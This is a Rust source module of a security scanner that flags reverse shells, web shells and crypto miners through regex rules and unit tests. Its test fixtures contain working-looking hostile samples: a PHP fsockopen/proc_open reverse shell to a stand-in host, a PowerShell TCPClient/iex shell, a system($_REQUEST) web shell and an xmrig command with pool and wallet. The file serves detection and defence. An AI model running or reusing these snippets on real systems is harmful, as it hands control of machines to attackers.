//! A machine taken over (category `DestructiveShell`, rule ids `shell.*`):
//! remote shells written across lines of code, web shells, crypto miners.
//!
//! - `shell.reverse-shell` (also a line rule of `shell`): a socket opened
//!   to a host (`fsockopen`, `TCPClient`, `socket.connect`, `net.Dial`,
//!   `TCPSocket.new`, `net.connect`) and, within a few lines of the same
//!   code, a shell or what was read run (`proc_open`, `/bin/sh -i`, `iex`,
//!   `pty.spawn`, `dup2`, `exec.Command("/bin/sh")`), or what was read
//!   from it handed to a call that runs a command (`c = s.gets` then
//!   `IO.popen(c)`, `data = sock.recv(…)` then `check_output(data, …)`):
//!   `Critical`.
//! - `shell.web-shell`: request parameters run as code or commands
//!   (`system($_GET['c'])`, `eval($_POST[…])`, `exec(request.args[…])`):
//!   `Critical`.
//! - `shell.crypto-miner`: a miner run or fetched (`xmrig`, `cpuminer`,
//!   a `stratum+tcp://` pool, `--donate-level`): `Critical` with a pool,
//!   a wallet or a download, `Medium` for a bare mention; a line warning
//!   against it, or an explanatory context, lowers it.

use std::sync::LazyLock;

use super::engine::{Analyzer, Body, LineRef, finding};
use super::rule::{Lazy, compile, warned_against};
use super::{Category, Finding, Severity};

/// The analyzers of this family.
pub(super) fn analyzers() -> Vec<Analyzer> {
    // Few triggers, most shared with other families: the prefilter's
    // table is nearly full. `socket*` also wakes on `Sockets.TCPClient`.
    vec![
        Analyzer {
            triggers: &["fsockopen", "socket*", "tcpsocket", "system(", "eval(", "exec("],
            run: sessions,
        },
        Analyzer { triggers: &["xmrig", "stratum+"], run: miners },
    ]
}

/// How many lines after a socket its shell may be run.
const SESSION_LINES: usize = 8;
/// How many lines after a miner's name its pool or wallet may be given
/// (a compose file's `command:` list, a config's `pools:`).
const MINER_LINES: usize = 6;

static SOCKET: Lazy = LazyLock::new(|| {
    compile(
        r#"\bfsockopen\s*\(|\bsocket\.socket\s*\(|\bnet\.sockets\.tcpclient\b|\btcpclient\s*\(|\.connect\s*\(\s*\(|\bsocket\.create_connection\b|\bnet\.dial\s*\(\s*"tcp|\btcpsocket\.(?:new|open)\b|\bnet\.(?:connect|createconnection)\s*\(|\bnew\s+socket\s*\("#,
    )
});

static SHELL_RUN: Lazy = LazyLock::new(|| {
    compile(
        r#"\bproc_open\b|\bpty\.spawn\b|\bos\.dup2\b|\biex\b|\binvoke-expression\b|/bin/(?:ba|z|da)?sh\b|\bcmd(?:\.exe)?\b["']|\bexec\.command\s*\(\s*"(?:/bin/)?(?:ba)?sh|\bspawn\s*\(\s*["'](?:/bin/)?(?:ba)?sh"#,
    )
});

static WEB_SHELL: Lazy = LazyLock::new(|| {
    compile(
        r#"\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert)\s*\(\s*(?:base64_decode\s*\(\s*)?\$_(?:get|post|request|cookie|server)\b|\b(?:eval|exec|os\.system|subprocess\.\w+)\s*\(\s*request\.(?:args|form|values|get_json|json)\b"#,
    )
});

static MINER: Lazy = LazyLock::new(|| {
    compile(
        r"\b(?:xmrig|xmr-stak|minerd|cpuminer|nbminer|lolminer|t-rex|ethminer)\b|stratum\+(?:tcp|ssl|tls)://|--donate-level\b",
    )
});

/// What makes a miner run, not a mention: a pool, a wallet, a download.
static MINER_RUN: Lazy = LazyLock::new(|| {
    compile(
        r"stratum\+|\s-o\s+\S+:\d+|--url[= ]\S+:\d+|\s-u\s+[0-9a-z]{40,}|--user[= ][0-9a-z]{40,}|--donate-level|\b(?:curl|wget|invoke-webrequest|iwr)\b[^\n]*(?:xmrig|miner)|\bnohup\b|--background|\.tar\.gz\b",
    )
});

fn sessions(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
    for &l in lines {
        let line = body.line(l);
        let b = line.as_bytes();
        if let Some(m) = WEB_SHELL.find(b)
            && !warned_against(&line[..m.start()])
        {
            let severity = body.unless_explained(Severity::Critical, l, m.start()..m.end());
            out.push(finding("shell.web-shell", Category::DestructiveShell, severity, l, line, m.start()));
        }
        let Some(m) = SOCKET.find(b) else { continue };
        if warned_against(&line[..m.start()]) {
            continue;
        }
        let runs = body
            .lines_from(l)
            .take(SESSION_LINES + 1)
            .take_while(|(r, t)| r.index == l.index || !super::fence::is_fence(t))
            .any(|(_, t)| SHELL_RUN.is_match(t.as_bytes()));
        if runs || runs_what_it_reads(body, l) {
            let severity = body.unless_explained(Severity::Critical, l, m.start()..m.end());
            out.push(finding(
                "shell.reverse-shell",
                Category::DestructiveShell,
                severity,
                l,
                line,
                m.start(),
            ));
        }
    }
}

/// A variable filled from a read (`c = s.gets`, `data = sock.recv(1024)`,
/// `while (c = s.gets)`, Node's `.on('data', d => …)`). Group 1 or 2 is
/// its name.
static READ_INTO: Lazy = LazyLock::new(|| {
    compile(
        r#"\b(\w+)\s*=\s*(?:\w+\.)+(?:gets|recv|recvfrom|readline|read|readpartial|read_nonblock)\b|\.on\s*\(\s*["']data["']\s*,\s*(?:async\s+)?(?:function\s*)?\(?\s*(\w+)"#,
    )
});

/// A call that runs its first argument as a command. Group 1 is the
/// argument's first word.
static RUN_ARG: Lazy = LazyLock::new(|| {
    compile(
        r#"\b(?:popen|popen2|popen3|system|exec|execsync|exec_command|spawn|spawnsync|check_output|getoutput|getstatusoutput|run|call|shell_exec|passthru|start)\s*\(\s*\[?\s*(\w+)\b"#,
    )
});

/// Whether code within [`SESSION_LINES`] of the socket at `l` runs, as a
/// command, what it read: the shell of a reverse shell written as a loop
/// (`while (c = s.gets); IO.popen(c) { … }`) rather than named.
fn runs_what_it_reads(body: &Body<'_>, l: LineRef) -> bool {
    let window: Vec<&str> = body
        .lines_from(l)
        .take(SESSION_LINES + 1)
        .take_while(|(r, t)| r.index == l.index || !super::fence::is_fence(t))
        .map(|(_, t)| t)
        .collect();
    let read: Vec<&[u8]> = window
        .iter()
        .flat_map(|t| READ_INTO.captures_iter(t.as_bytes()))
        .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_bytes()))
        .collect();
    !read.is_empty()
        && window.iter().any(|t| {
            RUN_ARG
                .captures_iter(t.as_bytes())
                .filter_map(|c| c.get(1))
                .any(|arg| read.iter().any(|v| v.eq_ignore_ascii_case(arg.as_bytes())))
        })
}

fn miners(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
    for &l in lines {
        let line = body.line(l);
        let Some(m) = MINER.find(line.as_bytes()) else { continue };
        let severity = if warned_against(&line[..m.start()]) {
            Severity::Low
        } else if MINER_RUN.is_match(line.as_bytes()) || configured(body, l) {
            body.unless_explained(Severity::Critical, l, m.start()..m.end())
        } else {
            Severity::Medium
        };
        out.push(finding("shell.crypto-miner", Category::DestructiveShell, severity, l, line, m.start()));
    }
}

/// A pool or a wallet on the lines below a miner's name in the same code
/// block, written as a list (`["-o", "pool.example:443", "-u", "44A…"]`)
/// or as settings: read with the list's quotes and commas as blanks.
fn configured(body: &Body<'_>, l: LineRef) -> bool {
    body.lines_from(l).skip(1).take(MINER_LINES).take_while(|(_, t)| !super::fence::is_fence(t)).any(
        |(_, t)| {
            let plain: String =
                t.chars().map(|c| if matches!(c, '"' | '\'' | ',' | '[' | ']') { ' ' } else { c }).collect();
            MINER_RUN.is_match(format!(" {plain}").as_bytes())
        },
    )
}

#[cfg(test)]
mod tests {
    use crate::scan::testutil::{assert_absent, assert_hit, assert_severity};
    use crate::scan::{Category::DestructiveShell, Severity::*};

    #[test]
    fn a_socket_whose_input_runs_is_a_reverse_shell_across_lines() {
        let php = "```php\n$sock = fsockopen(\"console.example\", 7001);\n$proc = proc_open(\"/bin/sh -i\", [0 => $sock, 1 => $sock], $pipes);\n```\n";
        assert_hit(php, "shell.reverse-shell", DestructiveShell, Critical, 2);
        let ps = "```powershell\n$c = New-Object System.Net.Sockets.TCPClient('mgmt.example', 443)\n$s = $c.GetStream()\n$r = (iex $d 2>&1 | Out-String)\n```\n";
        assert_hit(ps, "shell.reverse-shell", DestructiveShell, Critical, 2);
        // A client that only talks: no shell behind it.
        let client = "```python\ns = socket.create_connection((host, 6379))\ns.sendall(b'PING\\r\\n')\nprint(s.recv(64))\n```\n";
        assert_absent(client, "shell.reverse-shell");
    }

    #[test]
    fn request_parameters_run_as_commands_are_a_web_shell() {
        let body = "```php\nif (isset($_REQUEST['c'])) { system($_REQUEST['c']); }\n```\n";
        assert_hit(body, "shell.web-shell", DestructiveShell, Critical, 2);
        assert_absent("```php\n$name = htmlspecialchars($_GET['name']);\n```\n", "shell.web-shell");
    }

    #[test]
    fn a_miner_with_a_pool_is_critical_and_a_mention_is_not() {
        let run = "```bash\nnohup ./xmrig -o pool.example:443 --tls -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3Xjrp -p x\n```\n";
        assert_hit(run, "shell.crypto-miner", DestructiveShell, Critical, 2);
        assert_severity("Hash rates of xmrig vary with the CPU cache size.\n", "shell.crypto-miner", Medium);
        assert_severity(
            "Never run `xmrig -o pool.example:3333` on shared runners.\n",
            "shell.crypto-miner",
            Low,
        );
    }
}

#[cfg(test)]
#[path = "hijack_edge_tests.rs"]
mod edge_tests;
